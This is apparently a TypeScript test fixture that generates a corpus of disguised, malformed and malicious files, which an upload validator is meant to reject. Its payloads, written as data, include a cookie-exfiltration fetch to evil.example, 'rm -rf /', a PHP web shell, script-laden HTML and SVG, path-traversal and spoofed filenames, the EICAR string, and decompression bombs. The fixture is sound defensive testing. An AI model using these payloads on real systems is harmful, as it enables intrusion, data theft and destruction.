import { actingPdfs, bombs, brokenPdfs } from './bad-pdfs.ts'
import { onePage, writePdf } from './pdf.ts'
import { picture, resizedJpeg, resizedPng, withChunk, withComment } from './pictures.ts'
import { type Ending, fileAs, pdf, type SentFile, types } from './sent-file.ts'

const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

/** The T14 corpus: none of these files may be accepted. */
export async function badFiles(): Promise<SentFile[]> {
  const jpg = await picture().jpeg().toBuffer()
  const png = await picture().png().toBuffer()
  const carriers = { pdf: writePdf(onePage()), jpg, png }
  return [
    ...posing(carriers),
    ...calledOtherwise(carriers),
    ...alsoSomethingElse(carriers),
    ...infected(carriers),
    ...cut(carriers),
    ...damaged(carriers),
    ...floods(carriers),
    ...actingPdfs(),
    ...brokenPdfs(carriers.pdf),
    ...bombs(),
  ]
}

type Carriers = Record<Ending, Buffer>

const endings = Object.keys(types) as Ending[]

const zip = Buffer.concat([
  Buffer.from('PK\x03\x04\x14\0\0\0\x08\0', 'latin1'),
  Buffer.alloc(40, 1),
  Buffer.from('PK\x05\x06', 'latin1'),
  Buffer.alloc(18),
])
/** For a reader of archives, either part is enough to find the archive. */
const [listOfZip, partOfZip] = [zip.subarray(50), zip.subarray(0, 50)]
const page = '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'
const drawingWithScript =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'

/** Other content under the name and type of a document. */
function posing(carriers: Carriers): SentFile[] {
  const others: Record<string, Buffer | string> = {
    page,
    'page with a mark before it': `\ufeff${page}`,
    drawing: drawingWithScript,
    'drawing in XML': `<?xml version="1.0"?>${drawingWithScript}`,
    script: 'fetch("https://evil.example/"+document.cookie)',
    'shell script': '#!/bin/sh\nrm -rf /\n',
    'PHP page': '<?php system($_GET["c"]); ?>',
    archive: zip,
    'Windows program': `MZ${'\0'.repeat(200)}`,
    'Linux program': `\x7fELF${'\0'.repeat(200)}`,
    GIF: 'GIF89a\x01\0\x01\0\0\0\0;',
    BMP: `BM${'\0'.repeat(60)}`,
    TIFF: `II*\0${'\0'.repeat(60)}`,
    film: '\0\0\0\x18ftypmp42\0\0\0\0mp42isom',
    'Word file': Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    letters: 'I am a licence, honestly.',
    zeros: Buffer.alloc(1_000),
    'one byte': '%',
    'a beginning and nothing else': '%PDF-1.4',
    nothing: '',
  }
  return [
    ...Object.entries(others).flatMap(([name, bytes]) =>
      endings.map((ending) => fileAs(`${name} as ${ending}`, ending, bytes)),
    ),
    ...endings.flatMap((ending) =>
      endings
        .filter((other) => other !== ending)
        .map((other) => fileAs(`${other} as ${ending}`, ending, carriers[other])),
    ),
    ...endings.flatMap((ending) =>
      endings
        .filter((other) => other !== ending)
        .map((other) => ({
          ...fileAs(`${ending}, said to be ${other}`, ending, carriers[ending]),
          type: types[other],
        })),
    ),
    fileAs('PNG, beginning only', 'png', '\x89PNG\r\n\x1a\n'),
    fileAs('JPEG, beginning only', 'jpg', '\xff\xd8\xff\xe0'),
  ]
}

/** Valid bytes under a name that can be misread. */
function calledOtherwise(carriers: Carriers): SentFile[] {
  const names = [
    'licence',
    'licence.',
    'licence.exe',
    'licence.pdf.exe',
    'licence.pdf.html',
    'licence.html.pdf',
    'licence.php.pdf',
    'licence.svg.pdf',
    'licence.js .pdf',
    'licence.EXE.pdf',
    'licence.hta.old.pdf',
    'licence.pdf.',
    'licence.pdf/',
    'licence.png',
    'licence.jpg',
    'licence.pdf\0.png',
    'licence.html\0.pdf',
    '../../etc/passwd.pdf',
    '..\\..\\windows\\x.pdf',
    '/etc/cron.d/x.pdf',
    'C:\\x.pdf',
    '..%2f..%2fx',
    'licence\u202efdp.exe',
    'exe\u202e.pdf',
    '\u2066licence\u2069.pdf',
    'licence.pdf;.exe',
    'licence.pdf::$DATA',
    'licence.pｄf',
    'licence.pdf%00.exe',
  ]
  return names.map((file) => fileAs(`called ${JSON.stringify(file)}`, 'pdf', carriers.pdf, file))
}

/** Files that are a document to one reader and something else to another. */
function alsoSomethingElse(carriers: Carriers): SentFile[] {
  const others: Record<string, Buffer> = {
    'an archive': zip,
    'the list of an archive': listOfZip,
    'a part of an archive': partOfZip,
    'a page': Buffer.from(page),
    'a drawing': Buffer.from(drawingWithScript),
    'a PHP page': Buffer.from('<?php echo 1; ?>'),
    'a frame': Buffer.from('<iframe src="//evil.example"></iframe>'),
    'a PDF': carriers.pdf,
  }
  return Object.entries(others).flatMap(([name, other]) => [
    ...endings.map((ending) =>
      fileAs(`${ending} with ${name} behind it`, ending, Buffer.concat([carriers[ending], other])),
    ),
    ...endings.map((ending) =>
      fileAs(`${ending} with ${name} before it`, ending, Buffer.concat([other, carriers[ending]])),
    ),
    fileAs(`JPEG with ${name} in a comment`, 'jpg', withComment(carriers.jpg, other)),
    fileAs(
      `JPEG with ${name} in what the camera says`,
      'jpg',
      withComment(carriers.jpg, Buffer.concat([Buffer.from('Exif\0\0'), other]), 0xe1),
    ),
    fileAs(
      `PNG with ${name} in its text`,
      'png',
      withChunk(carriers.png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), other])),
    ),
    pdf(`PDF with ${name} in a stream`, writePdf(onePage('', { says: '', data: other }))),
    pdf(
      `PDF with ${name} in a comment`,
      Buffer.concat([Buffer.from('%PDF-1.4\n%'), other, carriers.pdf.subarray(8)]),
    ),
  ])
}

function infected(carriers: Carriers): SentFile[] {
  const known = Buffer.from(eicar)
  return [
    ...endings.map((ending) => fileAs(`EICAR as ${ending}`, ending, known)),
    ...endings.map((ending) =>
      fileAs(`EICAR behind ${ending}`, ending, Buffer.concat([carriers[ending], known])),
    ),
    pdf('EICAR in a stream', writePdf(onePage('', { says: '', data: known }))),
    pdf('EICAR in a string', writePdf(onePage('', `(${eicar.replace(/[()\\]/g, (sign) => sign)})`))),
    fileAs('EICAR in what a PNG says', 'png', withChunk(carriers.png, 'tEXt', known)),
    fileAs('EICAR in what a JPEG says', 'jpg', withComment(carriers.jpg, known)),
  ]
}

function cut(carriers: Carriers): SentFile[] {
  const parts = [0.02, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9]
  return endings.flatMap((ending) =>
    parts.map((part) =>
      fileAs(
        `${ending}, the first ${part * 100} %`,
        ending,
        carriers[ending].subarray(0, Math.floor(carriers[ending].length * part)),
      ),
    ),
  )
}

function damaged({ jpg, png }: Carriers): SentFile[] {
  const places = [20, 30, 60, 100, 500, 1_000]
  const without = (bytes: Buffer, marker: number) => {
    const at = bytes.indexOf(Buffer.from([0xff, marker]))
    return Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + 2 + bytes.readUInt16BE(at + 2))])
  }
  return [
    ...places.map((place) => {
      const bytes = Buffer.from(png)
      bytes[place] = (bytes[place] ?? 0) ^ 0xff
      return fileAs(`PNG with a wrong byte at ${place}`, 'png', bytes)
    }),
    fileAs('JPEG without a frame', 'jpg', without(jpg, 0xc0)),
    fileAs('JPEG of no height', 'jpg', resizedJpeg(jpg, 0, 0)),
    fileAs('PNG of no width', 'png', resizedPng(png, 0, 80)),
    fileAs('PNG that ends after its head', 'png', png.subarray(0, 33)),
  ]
}

/** A few bytes that would unpack to gigabytes. */
function floods({ jpg, png }: Carriers): SentFile[] {
  const flood = (width: number, height: number) =>
    writePdf(
      onePage('', {
        says: `/Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode`,
        data: Buffer.alloc(9),
      }),
    )
  return [
    fileAs('PNG of 50,000 by 50,000', 'png', resizedPng(png, 50_000, 50_000)),
    fileAs('PNG of 40,000,001 by 1', 'png', resizedPng(png, 40_000_001, 1)),
    fileAs('PNG of two milliards by two', 'png', resizedPng(png, 0x7fffffff, 0x7fffffff)),
    fileAs('JPEG of 65,500 by 65,500', 'jpg', resizedJpeg(jpg, 65_500, 65_500)),
    fileAs('JPEG of 6,400 by 6,400', 'jpg', resizedJpeg(jpg, 6_400, 6_400)),
    pdf('PDF with a picture of 50,000 by 50,000', flood(50_000, 50_000)),
    pdf('PDF with a picture of no size', flood(Number.NaN, 1)),
  ]
}
